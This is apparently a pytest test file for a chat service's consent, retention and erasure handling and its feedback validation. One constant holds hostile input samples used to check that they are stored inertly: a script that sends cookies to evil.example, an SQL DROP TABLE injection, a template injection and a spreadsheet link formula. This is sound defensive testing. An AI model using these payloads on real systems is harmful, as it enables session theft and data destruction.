"""What is kept of a chat: nothing without agreement, all of it gone on request, followed as far as it came."""

from __future__ import annotations

import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, inspect, select, text

from serve.conversations import scrubbing
from serve.conversations.counts import DailyCount, DailyTally, read_counts
from serve.conversations.key import demand_key, name_key
from serve.conversations.tables import Agreement, Erasure, KeptTurn
from serve.curation.tables import PairSource, StoredPairRow
from serve.database import Database
from serve.datasets.tables import DatasetPair, DatasetVersion
from serve.errors import BadRequest
from serve.feedback import MOST_PER_ANSWER
from serve.instructions.tables import InstructionTrial
from serve.tables import AdapterVersion, Base, Feedback
from tests.serve.conversations_scene import PATRON, STAFF, Scene, open_scene

OTHER = "fedcba9876543210fedcba9876543210"
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script> ![x](https://evil.example/?q) "
    '\'; DROP TABLE feedback; -- \x00\u202egnirts\u202c\x1b[31m {{7*7}} =HYPERLINK("https://evil.example")'
)


@pytest.fixture
def scene(url: str) -> Iterator[Scene]:
    with open_scene(url) as scene:
        yield scene


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Scene]:
    """On SQLite alone, where the database is no matter."""
    with open_scene(f"sqlite:///{tmp_path / 'room.sqlite'}") as scene:
        yield scene


def turns(scene: Scene) -> list[str]:
    with scene.database.readings() as session:
        return sorted(session.scalars(select(KeptTurn.answer_id)))


def count(scene: Scene, table: type[Base]) -> int:
    with scene.database.readings() as session:
        return session.scalar(select(func.count()).select_from(table)) or 0


def test_turns_are_kept_from_the_agreement_on_the_ones_before_it_too_until_it_is_taken_back(
    scene: Scene,
) -> None:
    scene.answer(1)
    scene.answer(2, conversation=OTHER)
    assert turns(scene) == []
    reply = scene.agree().json()
    assert (reply["agreed"], reply["turns"]) == (True, 1)
    until = datetime.fromisoformat(reply["kept_until"])
    assert timedelta(days=179, hours=23) < until - datetime.now(UTC) <= timedelta(days=180)
    scene.answer(3)
    scene.answer(4, conversation=OTHER)
    assert turns(scene) == ["answer-1", "answer-3"]
    with scene.database.readings() as session:
        kept = session.scalars(select(KeptTurn).where(KeptTurn.answer_id == "answer-3")).one()
    assert (kept.question, kept.answer, kept.consent) == ("Question 3: Box 4 [1].", "Box 4 [1].", "keeping-1")
    assert kept.details["adapter"] == "letters--v1-00000000" and kept.conversation == name_key(PATRON)
    assert scene.agree().json()["turns"] == 2  # a second time changes nothing
    assert scene.agree(False).json() == {"agreed": False, "turns": 0, "kept_until": ""}
    scene.answer(5)
    assert turns(scene) == [] and count(scene, Agreement) == 0


def test_the_id_is_stored_nowhere_and_a_weak_one_names_nothing(here: Scene, tmp_path: Path) -> None:
    here.answer(1)
    here.agree()
    here.give("k", conversation=PATRON)
    stored = b"".join(path.read_bytes() for path in tmp_path.iterdir())
    assert PATRON.encode() not in stored and name_key(PATRON).encode() in stored
    for weak in ("letters", "a" * 15, "a" * 201, "0123 456789 abcdef", "../../etc/passwd_0123"):
        assert name_key(weak) == ""
        with pytest.raises(BadRequest, match="that nobody can guess"):
            demand_key(weak)
    assert here.agree(conversation="conversation1").status_code == 400
    here.give("weak", answer_id="gone", question="Q", answer="A", conversation="conversation1")
    with here.database.readings() as session:
        assert session.scalars(select(Feedback.conversation).order_by(Feedback.created)).all() == [
            name_key(PATRON),
            None,
        ]


def test_nobody_else_agrees_ends_or_deletes_not_even_staff(here: Scene) -> None:
    here.answer(1)
    for headers in ({"X-Reading-Room-Conversation": OTHER}, STAFF):
        assert here.agree(headers=headers).status_code in (403, 404)
        assert here.http.post(f"/v1/conversations/{PATRON}/end", headers=headers).status_code in (403, 404)
        assert here.http.delete(f"/v1/conversations/{PATRON}", headers=headers).status_code in (403, 404)
    assert count(here, Agreement) == 0 and here.parts.memory.recall("answer-1") is not None
    for path in ("/v1/erasures", "/v1/purges"):
        assert here.http.get(path).status_code == 403
    assert here.http.post("/v1/erasures", json={"conversation": PATRON}).status_code == 403


def test_the_end_of_a_conversation_is_forgetting_and_keeps_what_was_sent(here: Scene) -> None:
    here.answer(1)
    here.answer(2, conversation=OTHER)
    assert here.give("k").status_code == 201
    assert here.http.post(f"/v1/conversations/{PATRON}/end").json() == {"forgotten": 1}
    assert here.parts.memory.recall("answer-1") is None and here.parts.memory.recall("answer-2") is not None
    assert here.http.post(f"/v1/conversations/{PATRON}/end").json() == {"forgotten": 0}
    assert count(here, Feedback) == 1


def test_a_shared_computer_keeps_no_conversation(tmp_path: Path) -> None:
    with open_scene(f"sqlite:///{tmp_path / 'room.sqlite'}", shared_terminal=True) as scene:
        scene.answer(1)
        refused = scene.agree()
        assert refused.status_code == 409 and "shared computers" in refused.json()["error"]["message"]
        assert count(scene, KeptTurn) == 0


def make_pair(scene: Scene, source: str, *, conversation: str | None, words: str) -> str:
    """A pair that staff made of feedback or a turn, in a dataset version that an adapter was trained on."""
    now = datetime.now(UTC)
    with scene.database.sessions.begin() as session:
        session.add(
            StoredPairRow(
                id=f"pair-of-{source}", state="approved", revision=2, question=words, answer=words, evidence=[],
                history=[], kind="answer", origin="feedback", contributor="Ada", editors=["1"], approver="Bo",
                waiver="", waived=[], returned="", consent="patron", licence="", language="en",
                conversation=conversation, group="", created=now, updated=now, updated_by="Bo",
            )
        )  # fmt: skip
        session.flush()
        session.add(PairSource(pair=f"pair-of-{source}", source=source, conversation=conversation))
        for number, holds in ((3, True), (4, False)):
            session.add(
                DatasetVersion(
                    version=f"letters--v{number}-1a2b3c4d", name="letters", number=number, sha256="0", parent="",
                    manifest_sha256="0", pairs=1, exam=0, excluded=0, created=now, who="Bo", why="",
                )
            )  # fmt: skip
            session.flush()
            pair = f"pair-of-{source}" if holds else "pair-other"
            session.add(
                DatasetPair(version=f"letters--v{number}-1a2b3c4d", pair=pair, revision=2, part="train")
            )
            session.add(
                AdapterVersion(
                    name=f"letters--v{number}-0000000{number}", adapter="letters", number=number, state="loaded",
                    sha256="0", base_sha256="0", rank=4, targets=[], reference=None, problem="", created=now,
                    lineage={"dataset": f"letters--v{number}-1a2b3c4d"}, created_by="x",
                )
            )  # fmt: skip
    return f"pair-of-{source}"


def test_a_deletion_is_followed_to_the_adapters_and_can_be_asked_for_again(scene: Scene) -> None:
    scene.answer(1, "My grandmother's secret")
    scene.agree()
    given = scene.give("k", comment="My grandmother's secret").json()["id"]
    turn = turns(scene)
    pair = make_pair(scene, given, conversation=name_key(PATRON), words="My grandmother's secret")
    kept = scene.give("k2", answer_id="other", question="Q", answer="A", conversation=OTHER).json()["id"]
    scene.give("k3", answer_id="third", question="A forged one", answer="A", conversation=PATRON)
    with scene.database.sessions.begin() as session:
        for name, asked in (
            ("t1", "Question 1: my grandmother's SECRET"),
            ("t2", "A forged one"),
            ("t3", "Q"),
        ):
            session.add(
                InstructionTrial(
                    id=name, kind="alias", scope="default", number=1, beside=0, questions=["Else?", asked],
                    created=datetime.now(UTC), created_by="Ada",
                )
            )  # fmt: skip

    gone = scene.http.delete(f"/v1/conversations/{PATRON}").json()

    assert (gone["who"], gone["pairs"]) == ("patron", [pair])
    assert given in gone["feedback"] and len(gone["feedback"]) == 2 and kept not in gone["feedback"]
    assert gone["datasets"] == ["letters--v3-1a2b3c4d"] and gone["adapters"] == ["letters--v3-00000003"]
    assert len(gone["turns"]) == len(turn) == 1
    with scene.database.readings() as session:
        row = session.get_one(StoredPairRow, pair)
        assert (row.state, row.question, row.answer) == ("withdrawn", "", "")
        assert session.scalars(select(Feedback.id)).all() == [kept]
        assert session.scalars(select(InstructionTrial.id).order_by(InstructionTrial.id)).all() == [
            "t2",
            "t3",
        ]
        assert (session.scalar(select(func.count()).select_from(KeptTurn)) or 0) == 0
    assert scene.parts.memory.recall("answer-1") is None
    assert scene.http.delete(f"/v1/conversations/{PATRON}").json() == gone
    records = scene.http.get("/v1/erasures", headers=STAFF).json()
    assert (records["total"], records["data"]) == (1, [gone])
    assert "secret" not in str(records)


@pytest.mark.parametrize("named", ["id", "key", "feedback"])
def test_staff_bring_a_request_by_id_key_or_feedback(here: Scene, named: str) -> None:
    here.answer(1)
    here.agree()
    given = here.give("k").json()["id"]
    body = {
        "id": {"conversation": PATRON},
        "key": {"conversation": name_key(PATRON)},
        "feedback": {"feedback": given},
    }
    gone = here.http.post("/v1/erasures", json=body[named], headers=STAFF).json()
    assert (gone["who"], gone["feedback"], len(gone["turns"])) == ("Ada", [given], 1)
    assert count(here, Feedback) == count(here, KeptTurn) == count(here, Agreement) == 0
    assert here.http.post("/v1/erasures", json=body[named], headers=STAFF).json() == gone


def test_what_is_not_known_is_said_and_recorded_nowhere(here: Scene) -> None:
    for body in ({"conversation": PATRON}, {"feedback": "feedback-x"}):
        assert here.http.post("/v1/erasures", json=body, headers=STAFF).status_code == 404
    for body in ({}, {"conversation": PATRON, "feedback": "x"}):
        assert here.http.post("/v1/erasures", json=body, headers=STAFF).status_code == 400
    assert here.http.delete(f"/v1/conversations/{PATRON}").json()["id"] == ""
    assert count(here, Erasure) == 0


def test_what_was_erased_is_not_kept_again_by_sending_it_again(scene: Scene) -> None:
    scene.answer(1)
    scene.give("k", question="Q", answer="A")
    scene.http.delete(f"/v1/conversations/{PATRON}")
    again = scene.give("k", question="Q", answer="A", conversation=PATRON)
    assert again.status_code == 409 and "deleted on request" in again.json()["error"]["message"]
    another = scene.give("k2", question="Q", answer="A", conversation=PATRON)
    assert another.status_code == 409
    assert scene.agree().status_code == 409
    assert count(scene, Feedback) == count(scene, Agreement) == 0


def test_feedback_and_deletion_at_one_moment_leave_nothing_behind(scene: Scene) -> None:
    scene.answer(1)
    assert scene.give("first").status_code == 201

    def act(number: int) -> int:
        if number == 6:
            deleted: int = scene.http.delete(f"/v1/conversations/{PATRON}").status_code
            return deleted
        changes = {"answer_id": f"a{number}", "question": "Q", "answer": "A", "conversation": PATRON}
        kept: int = scene.give(f"k{number}", **changes).status_code
        return kept

    with ThreadPoolExecutor(6) as pool:
        statuses = list(pool.map(act, range(14)))
    assert set(statuses) <= {200, 201, 409}
    assert count(scene, Feedback) == 0


def test_deletions_one_after_another_write_the_file_anew_only_once(here: Scene, tmp_path: Path) -> None:
    """A patron who deletes in a loop keeps nobody from writing; the words go with the next turn."""
    for number in range(3):
        conversation = f"{number}" * 32
        changes = {
            "answer_id": "x",
            "question": "Q",
            "answer": "A",
            "comment": "No.",
            "conversation": conversation,
        }
        here.give(f"k{number}", **changes)
        assert here.http.delete(f"/v1/conversations/{conversation}").json()["feedback"] != []
    debt = scrubbing._DEBTS[here.database]
    first = debt.last
    assert debt.owed
    scrubbing.scrub_owed(here.database)
    assert (debt.owed, debt.last) == (True, first)
    debt.last -= scrubbing.REST_SECONDS
    scrubbing.scrub_owed(here.database)
    assert not debt.owed and debt.last >= first
    scrubbing.scrub_owed(here.database)
    assert (tmp_path / "room.sqlite-wal").stat().st_size == 0


def test_taking_back_an_agreement_empties_pairs_of_its_turns_and_leaves_feedback(here: Scene) -> None:
    here.answer(1)
    here.agree()
    given = here.give("k").json()["id"]
    with here.database.readings() as session:
        turn = session.scalars(select(KeptTurn.id)).one()
    make_pair(here, turn, conversation=name_key(PATRON), words="Words")
    here.agree(False)
    with here.database.readings() as session:
        assert session.get_one(StoredPairRow, f"pair-of-{turn}").state == "withdrawn"
        assert session.scalars(select(Feedback.id)).all() == [given]
        record = session.scalars(select(Erasure)).one()
    assert (record.turns, record.datasets) == ([turn], ["letters--v3-1a2b3c4d"])


def test_hostile_feedback_is_kept_as_plain_letters(scene: Scene) -> None:
    scene.answer(1)
    reply = scene.give("k", comment=HOSTILE, corrected_answer=HOSTILE)
    assert reply.status_code == 201
    with scene.database.readings() as session:
        row = session.scalars(select(Feedback)).one()
    assert row.comment == HOSTILE.translate({0: None, 0x202E: None, 0x202C: None, 0x1B: None})
    assert (row.conversation, row.question, row.remembered) == (
        name_key(PATRON),
        "Question 1: Box 4 [1].",
        True,
    )


@pytest.mark.parametrize(
    ("changes", "status"),
    [
        ({"comment": "x" * 5_001}, 400),
        ({"corrected_answer": "x" * 10_000_000}, 413),
        ({"answer_id": "a\x00b", "question": "Q", "answer": "A"}, 400),
        ({"idempotency_key": "k\n"}, 400),
        ({"idempotency_key": ""}, 400),
        ({"comment": "\ud800"}, 400),
        ({"reasons": ["<script>"]}, 400),
        ({"thumb": "sideways"}, 400),
        ({"remembered": True}, 400),
        ({"consent": "made-up"}, 400),
        ({"conversation": {"$ne": None}}, 400),
        ({"answer_id": "answer-of-somebody-else"}, 404),
    ],
)
def test_bad_feedback_is_refused_in_one_sentence(
    here: Scene, changes: dict[str, object], status: int
) -> None:
    here.answer(1)
    said = {"answer_id": "answer-1", "idempotency_key": "k", "thumb": "down", **changes}
    reply = here.http.post(
        "/v1/feedback", content=json.dumps(said), headers={"Content-Type": "application/json"}
    )
    assert reply.status_code == status
    assert set(reply.json()["error"]) == {"message", "type", "param", "code"}
    assert count(here, Feedback) == 0


def test_a_forged_answer_is_marked_and_a_real_one_cannot_be_put_differently(here: Scene) -> None:
    here.answer(1)
    here.give("forged", answer_id="made-up", question="Q", answer="The library is closed for ever.")
    here.give("real", question="Other words", answer="Other words", conversation=OTHER)
    with here.database.readings() as session:
        rows = {row.idempotency_key: row for row in session.scalars(select(Feedback))}
    assert (rows["forged"].remembered, rows["forged"].details) == (False, {})
    assert (rows["real"].remembered, rows["real"].answer) == (True, "Box 4 [1].")
    assert rows["real"].conversation == name_key(PATRON)


def test_a_replay_changes_nothing_and_a_key_used_for_other_words_is_refused(scene: Scene) -> None:
    scene.answer(1)
    first = scene.give("k", reasons=["other", "too_long"], consent="feedback-1").json()
    for _ in range(3):
        assert scene.give("k", reasons=["too_long", "other", "other"]).json() == first
    others: tuple[dict[str, object], ...] = (
        {"comment": "Yes."},
        {"thumb": "up"},
        {"reasons": []},
        {"corrected_answer": "Box 5"},
    )
    for changes in others:
        refused = scene.give("k", **{"reasons": ["other", "too_long"], **changes})
        assert refused.status_code == 409 and refused.json()["error"]["param"] == "idempotency_key"
    assert count(scene, Feedback) == 1


def test_one_answer_is_judged_so_often_and_no_oftener(here: Scene) -> None:
    here.answer(1)
    statuses = [here.give(f"k{number}").status_code for number in range(MOST_PER_ANSWER + 2)]
    assert statuses == [201] * MOST_PER_ANSWER + [400, 400]


def test_each_kind_of_answer_has_its_own_count_by_day(scene: Scene) -> None:
    tally, today = DailyTally(), datetime.now(UTC).date()
    for status, found in (("answered", True), ("answered", True), ("not_found", False), ("failed", False)):
        tally.add(collection="ms1", found=found, status=status, adapter="base")
    tally.flush(scene.database)
    tally.flush(scene.database)
    tally.add(collection="ms1", found=True, status="answered", adapter="base")
    tally.add(collection="", found=True, status="answered", adapter="letters--v1-00000000")
    tally.flush(scene.database)
    with scene.database.readings() as session:
        counts = read_counts(session, today)
        assert read_counts(session, date(2020, 1, 1), today - timedelta(days=1)) == ()
    assert counts == (
        DailyCount(today, "", True, "answered", "letters--v1-00000000", 1),
        DailyCount(today, "ms1", False, "failed", "base", 1),
        DailyCount(today, "ms1", False, "not_found", "base", 1),
        DailyCount(today, "ms1", True, "answered", "base", 3),
    )


def test_several_gateways_count_together_and_a_failed_flush_loses_nothing(scene: Scene) -> None:
    def run_gateway(_number: int) -> None:
        own = Database(scene.database.engine.url.render_as_string(hide_password=False))
        tally = DailyTally()
        for number in range(20):
            tally.add(collection="ms1", found=True, status="answered", adapter="base")
            if number % 7 == 0:
                tally.flush(own)
        tally.flush(own)
        own.close()

    with ThreadPoolExecutor(3) as pool:
        list(pool.map(run_gateway, range(3)))
    tally = DailyTally()
    tally.add(collection="ms1", found=True, status="answered", adapter="base")
    with scene.database.sessions.begin() as session:
        session.execute(text("ALTER TABLE daily_answers RENAME TO elsewhere"))
    with pytest.raises(Exception, match="daily_answers"):
        tally.flush(scene.database)
    with scene.database.sessions.begin() as session:
        session.execute(text("ALTER TABLE elsewhere RENAME TO daily_answers"))
    tally.flush(scene.database)
    with scene.database.readings() as session:
        assert [found.answers for found in read_counts(session, date(2020, 1, 1))] == [61]


def test_migrations_make_what_the_tables_say(scene: Scene) -> None:
    inspector = inspect(scene.database.engine)
    tables = (
        "feedback",
        "daily_answers",
        "agreement",
        "kept_turn",
        "purge",
        "purged",
        "erasure",
        "tombstone",
    )
    for table in tables:
        made = {column["name"]: column["nullable"] for column in inspector.get_columns(table)}
        assert made == {column.name: column.nullable for column in Base.metadata.tables[table].columns}, table
        indexed = {
            tuple(index["column_names"]) for index in inspector.get_indexes(table) if not index["unique"]
        }
        wanted = {tuple(c.name for c in index.columns) for index in Base.metadata.tables[table].indexes}
        assert indexed == wanted, table
